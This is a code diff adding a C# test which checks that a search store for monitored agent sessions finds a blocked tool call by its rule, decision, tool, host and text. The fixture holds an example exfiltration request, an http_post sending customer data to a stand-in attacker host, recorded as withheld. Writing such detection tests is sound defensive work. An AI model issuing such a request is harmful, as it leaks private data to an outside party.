@@ -57,6 +57,38 @@ public sealed class SearchStoreTests(Database database) : IClassFixture<Database
     }
 
     [Fact]
+    public async Task Finds_turns_by_tool_calls_that_were_kept_back()
+    {
+        var tenant = await TestTenant.AddAsync(database);
+        var spool = new Spool(tenant);
+        var exchange = spool.Start(spool.NewSession(), ["\"Tidy up\""], started => started.Decision.Kind = "allow");
+        await _ingest.IngestAsync(spool.Batch(), Cancel);
+        spool.Withheld(exchange, new()
+        {
+            Index = 1,
+            Tool = "http_post",
+            Input = "{\"url\":\"https://files.evil.example/customers\"}",
+            Rule = "exfiltration",
+            PolicyId = tenant.Policy.Value,
+            PolicyVersion = 1,
+            Kind = "block",
+        });
+        await _ingest.IngestAsync(spool.Batch(), Cancel);
+        async Task IsFoundAsync()
+        {
+            foreach (var (kind, value) in ((string, string)[])[("rule", "exfiltration"), ("decision", "block"), ("decision", "allow"), ("tool", "http_post"), ("host", "files.evil.example")])
+                Assert.Equal(exchange, Assert.Single((await FindAsync(tenant, new() { Tags = new Dictionary<string, IReadOnlyList<string>> { [kind] = [value] } })).Hits).ExchangeId);
+            var hit = Assert.Single((await FindAsync(tenant, new() { Text = "customers" })).Hits);
+            Assert.Contains(hit.Snippet, part => part.Text.Contains("customers", StringComparison.Ordinal));
+        }
+
+        await IsFoundAsync();
+        spool.End(exchange, "blocked");
+        await _ingest.IngestAsync(spool.Batch(), Cancel);
+        await IsFoundAsync();
+    }
+
+    [Fact]
     public async Task Finds_turns_by_tool_input_size_tokens_cost_and_time()
     {
         var (tenant, a, b) = await TwoAsync();
